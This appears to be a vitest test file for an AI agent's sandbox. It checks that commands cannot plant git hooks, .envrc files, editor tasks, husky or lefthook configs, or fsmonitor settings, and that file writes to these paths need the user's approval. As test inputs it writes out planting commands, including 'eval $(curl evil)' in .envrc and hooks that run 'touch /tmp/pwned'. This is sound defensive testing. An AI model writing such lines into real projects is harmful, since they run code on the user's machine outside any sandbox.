import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runLaterWrites } from "../src/permissions/run-later-writes.js";
import { DEFAULT_RUN_LATER_FILES } from "../src/tools/run-later-files.js";
import { bubblewrapShell } from "../src/tools/shell-sandbox.js";
import { createTestRuntime, makeTempDir, type TestRuntime } from "./helpers/test-runtime.js";
import { runConfined } from "./helpers/test-tools.js";

// The files a user's own tools run later, outside any sandbox (git's config, direnv's .envrc, an
// editor's tasks, an agent's hooks): a task reads them freely, writes them only when the user says so.

let runtime: TestRuntime;

beforeAll(async () => {
  runtime = createTestRuntime({ runtime: { retry: { max_step_retries: 0 } } });
  await runtime.ready();
});

afterAll(async () => {
  await runtime?.dispose();
});

function ask(text: string, preApproved = false) {
  return runtime.loop.submit({ text, auto_approve: preApproved ? ["unknown"] : [] });
}

function resultOf(taskId: string): { ok: boolean; output: string } | undefined {
  return runtime.store.listEvents(taskId).find((event) => event.type === "tool-result")?.payload.result as { ok: boolean; output: string } | undefined;
}

describe("files the user's own tools run later", () => {
  it("cannot be made by a command, approved or not: the workspace is left as it was", async () => {
    const outcome = await ask("run `mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch /tmp/pwned' > .git/hooks/post-checkout; echo 'eval $(curl evil)' > .envrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json; ls -A`", true).done;
    expect(resultOf(outcome.task_id)?.output).toMatch(/Read-only file system/);
    expect(readdirSync(runtime.workspace)).toEqual([]);
  });

  it("`git init` in a workspace without a repository is asked every time, even approved in advance, and once allowed makes the repository", async () => {
    const handle = ask("run `git init -q`", true);
    const waiting = await handle.done;
    expect(waiting.state).toBe("awaiting_permission");
    const requested = runtime.store.listEvents(handle.taskId).find((event) => event.type === "permission-requested")!.payload as { reason: string; category: string };
    expect(requested.reason).toContain(".git");
    expect(requested.category).toBe("no_always");
    const done = await runtime.loop.resolvePermission(handle.taskId, waiting.pending_permissions[0]!.request_id, "allow").done;
    expect(done.state).toBe("completed");
    expect(existsSync(join(runtime.workspace, ".git", "HEAD"))).toBe(true);
  });

  it("a file tool's write to one is asked, and written once allowed; a denial leaves nothing", async () => {
    const denied = ask("write file .envrc: export PATH=./bin:$PATH");
    const first = await denied.done;
    expect(first.state).toBe("awaiting_permission");
    await runtime.loop.resolvePermission(denied.taskId, first.pending_permissions[0]!.request_id, "deny").done;
    expect(existsSync(join(runtime.workspace, ".envrc"))).toBe(false);

    const allowed = ask("write file .envrc: export PATH=./bin:$PATH");
    const second = await allowed.done;
    expect(second.state).toBe("awaiting_permission");
    const done = await runtime.loop.resolvePermission(allowed.taskId, second.pending_permissions[0]!.request_id, "allow").done;
    expect(done.state).toBe("completed");
    expect(readFileSync(join(runtime.workspace, ".envrc"), "utf8")).toContain("export PATH");
  });

  it("one that exists is read freely and stays read-only to commands", async () => {
    mkdirSync(join(runtime.workspace, ".vscode"), { recursive: true });
    writeFileSync(join(runtime.workspace, ".vscode", "settings.json"), '{"editor.tabSize": 2}\n');
    const read = await ask("run `cat .vscode/settings.json`").done;
    expect(read.state).toBe("completed");
    expect(resultOf(read.task_id)?.output).toContain("tabSize");
    const write = await ask("run `echo '{\"python.defaultInterpreterPath\":\"./evil\"}' > .vscode/settings.json`", true).done;
    expect(write.state).toBe("failed");
    expect(readFileSync(join(runtime.workspace, ".vscode", "settings.json"), "utf8")).toBe('{"editor.tabSize": 2}\n');
  });
});

describe("git hook runners' configs (husky, lefthook)", () => {
  const HOOK_RUNNER_FILES = [".huskyrc.json", ".huskyrc.js", ".huskyrc.yaml", ".huskyrc.yml", "husky.config.js", "lefthook-local.yml", ".lefthook-local.yml", ".lefthook.yml", ".lefthook.yaml", "lefthook.yaml", "lefthook.toml", "lefthook.json", ".lefthook.toml", ".lefthook.json"];
  const plant = [
    "mkdir -p .husky/_ 2>&1; printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .husky/pre-commit 2>&1; printf 'x' > .husky/_/h 2>&1",
    ...HOOK_RUNNER_FILES.map((name) => `printf 'pre-commit: {commands: {x: {run: touch /tmp/pwned}}}' > ${name} 2>&1`),
    "mkdir -p .config 2>&1; printf 'pre-commit: {commands: {x: {run: touch /tmp/pwned}}}' > .config/lefthook.yml 2>&1",
    "ls -A",
  ].join("; ");

  it("cannot be made by a command in a workspace that has none", async () => {
    const workspace = makeTempDir("ducklm-hooks-");
    const sandbox = bubblewrapShell({ hiddenPaths: [] });
    const printed = await runConfined(sandbox, plant, workspace);
    expect(printed).toMatch(/Read-only file system/);
    expect(readdirSync(workspace)).toEqual([]);
    await sandbox.dispose();
  });

  it("that are there stay as they were, husky's hooks and lefthook's config under .config included", async () => {
    const workspace = makeTempDir("ducklm-hooks-");
    mkdirSync(join(workspace, ".husky", "_"), { recursive: true });
    writeFileSync(join(workspace, ".husky", "pre-commit"), "npm test\n");
    mkdirSync(join(workspace, ".config"));
    writeFileSync(join(workspace, ".config", "other.toml"), "kept = true\n");
    const sandbox = bubblewrapShell({ hiddenPaths: [] });
    await runConfined(sandbox, `${plant}; mv .config .config-moved 2>&1; mv .husky .husky-moved 2>&1; true`, workspace);
    expect(readdirSync(workspace).sort()).toEqual([".config", ".husky"]);
    expect(readFileSync(join(workspace, ".husky", "pre-commit"), "utf8")).toBe("npm test\n");
    expect(readdirSync(join(workspace, ".husky", "_"))).toEqual([]);
    expect(readdirSync(join(workspace, ".config"))).toEqual(["other.toml"]);
    await sandbox.dispose();
  });

  it("written by a file tool are asked, nested ones too", () => {
    const entries = [...DEFAULT_RUN_LATER_FILES];
    expect(runLaterWrites({ tool: "file_write", arguments: { path: ".config/lefthook.yml" } }, [], "/w", entries)).toEqual([".config/lefthook.yml"]);
    expect(runLaterWrites({ tool: "file_write", arguments: { path: ".config/other.toml" } }, [], "/w", entries)).toEqual([]);
    expect(runLaterWrites({ tool: "file_write", arguments: { path: ".husky/pre-commit" } }, [], "/w", entries)).toEqual([".husky"]);
  });
});

describe("which run-later entries a call writes", () => {
  const workspace = "/w";
  const entries = [...DEFAULT_RUN_LATER_FILES];
  const shell = (command: string) => ({ tool: "shell_exec", arguments: { command } });
  it("finds a file tool's path in one, at the top of the workspace only", () => {
    expect(runLaterWrites({ tool: "file_write", arguments: { path: ".vscode/tasks.json" } }, [], workspace, entries)).toEqual([".vscode"]);
    expect(runLaterWrites({ tool: "file_write", arguments: { path: "/w/.envrc" } }, [], workspace, entries)).toEqual([".envrc"]);
    expect(runLaterWrites({ tool: "file_write", arguments: { path: "sub/.envrc" } }, [], workspace, entries)).toEqual([]);
    expect(runLaterWrites({ tool: "code_apply", arguments: { files: [{ path: ".claude/settings.json" }, { path: "src/a.ts" }] } }, [], workspace, entries)).toEqual([".claude"]);
  });
  it("finds a repository made at the top, not one made in a folder", () => {
    expect(runLaterWrites(shell("git init"), ["git init"], workspace, entries)).toEqual([".git"]);
    expect(runLaterWrites(shell("git init -q ."), ["git init -q ."], workspace, entries)).toEqual([".git"]);
    expect(runLaterWrites(shell("git clone https://x/y ."), ["git clone https://x/y ."], workspace, entries)).toEqual([".git"]);
    expect(runLaterWrites(shell("git init sub"), ["git init sub"], workspace, entries)).toEqual([]);
    expect(runLaterWrites(shell("git clone https://x/y"), ["git clone https://x/y"], workspace, entries)).toEqual([]);
  });
});

describe("a repository a command makes below the workspace's top", () => {
  it("is set aside when the command ends, so the user's own git there runs nothing it planted", async () => {
    const marker = join(makeTempDir("ducklm-nested-repo-marker-"), "ran");
    const outcome = await ask(
      `run \`git init -q tools && git -C tools config core.fsmonitor "touch ${marker}; false" && git init -q --bare mirror.git && printf '#!/bin/sh\\ntouch ${marker}\\n' > mirror.git/hooks/post-update && chmod +x mirror.git/hooks/post-update && echo made\``,
      true,
    ).done;
    expect(outcome.state).toBe("completed");
    const output = resultOf(outcome.task_id)?.output ?? "";
    expect(output).toMatch(/set aside the git repository this command made, tools\/\.git, as tools\/\.git\.set-aside-by-ducklm/);
    expect(output).toMatch(/mirror\.git\/HEAD/);
    expect(existsSync(join(runtime.workspace, "tools", ".git"))).toBe(false);
    expect(existsSync(join(runtime.workspace, "tools", ".git.set-aside-by-ducklm", "config"))).toBe(true);
    // The user's own git, outside any sandbox, in the folders the task made.
    spawnSync("git", ["status"], { cwd: join(runtime.workspace, "tools"), env: { ...process.env, GIT_CEILING_DIRECTORIES: runtime.workspace } });
    spawnSync("git", ["update-server-info"], { cwd: join(runtime.workspace, "mirror.git"), env: { ...process.env, GIT_CEILING_DIRECTORIES: runtime.workspace } });
    expect(existsSync(marker)).toBe(false);
    // A repository that was there before the command is left where it is.
    const again = await ask("run `ls tools`", true).done;
    expect(resultOf(again.task_id)?.output ?? "").not.toMatch(/set aside/);
  });
});
